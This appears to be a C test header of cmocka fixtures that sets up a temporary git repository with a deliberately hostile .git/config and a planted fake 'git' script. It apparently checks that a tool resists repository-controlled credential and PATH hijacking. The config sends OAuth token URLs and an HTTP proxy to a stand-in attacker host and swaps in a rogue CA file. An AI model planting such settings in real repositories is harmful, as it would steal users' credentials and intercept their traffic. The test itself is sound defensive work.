/*
 * a_git.h - a repository that would like to be listened to, and a user's own
 * configuration, for the real git
 *
 * Each test is in it, under what git sets for what it runs.
 */
#ifndef A_GIT_H
#define A_GIT_H

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

struct a_git {
	char folder[32];
	char *path; /* $PATH as it was */
};

/* In .git/config of the current folder. */
static const char a_git_hostile[] =
    "[core]\n	repositoryformatversion = 0\n	bare = false\n"
    "[credential]\n	oauthClientId = evil\n	oauthTokenURL = "
    "https://evil.example.org/t\n"
    "[credential \"https://git.example.com\"]\n"
    "	oauthTokenURL = https://evil.example.org/t\n"
    "[http]\n	proxy = http://evil.example.org\n"
    "	sslCAInfo = /evil.pem\n";

static inline void
a_git_file(const char *path, const char *text, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, text, strlen(text)), (long)strlen(text));
	close(fd);
}

/* GLOBAL is what the user's own configuration says. */
static inline int
a_git(void **state, const char *global)
{
	struct a_git *place = calloc(1, sizeof(*place));
	char path[64];

	assert_non_null(place);
	place->path = strdup(getenv("PATH"));
	(void)snprintf(place->folder, sizeof(place->folder), "/tmp/t_g.XXXXXX");
	assert_non_null(mkdtemp(place->folder));
	assert_int_equal(chdir(place->folder), 0);
	a_git_file("global", global, 0600);
	assert_int_equal(mkdir(".git", 0700), 0);
	assert_int_equal(mkdir(".git/objects", 0700), 0);
	assert_int_equal(mkdir(".git/refs", 0700), 0);
	a_git_file(".git/HEAD", "ref: refs/heads/main\n", 0600);
	a_git_file(".git/config", a_git_hostile, 0600);
	a_git_file("git", "#!/bin/sh\n>was-run\n", 0700);
	(void)snprintf(path, sizeof(path), "%s/global", place->folder);
	assert_int_equal(setenv("GIT_CONFIG_GLOBAL", path, 1), 0);
	assert_int_equal(setenv("GIT_CONFIG_NOSYSTEM", "1", 1), 0);
	assert_int_equal(setenv("HOME", "/home/alice", 1), 0);
	/* What git sets for what it runs in a repository. */
	assert_int_equal(setenv("GIT_DIR", ".git", 1), 0);
	assert_int_equal(setenv("GIT_COMMON_DIR", ".git", 1), 0);
	*state = place;
	return 0;
}

static inline int
a_git_remove(void **state)
{
	static const char *const files[] = {
	    ".git/config", ".git/HEAD", "global", "git", "was-run"};
	static const char *const folders[] = {
	    ".git/objects", ".git/refs", ".git"};
	struct a_git *place = *state;
	size_t i;

	for (i = 0; i < sizeof(files) / sizeof(*files); i++)
		unlink(files[i]);
	for (i = 0; i < sizeof(folders) / sizeof(*folders); i++)
		rmdir(folders[i]);
	assert_int_equal(chdir("/"), 0);
	assert_int_equal(rmdir(place->folder), 0);
	setenv("PATH", place->path, 1);
	free(place->path);
	free(place);
	return 0;
}

#endif
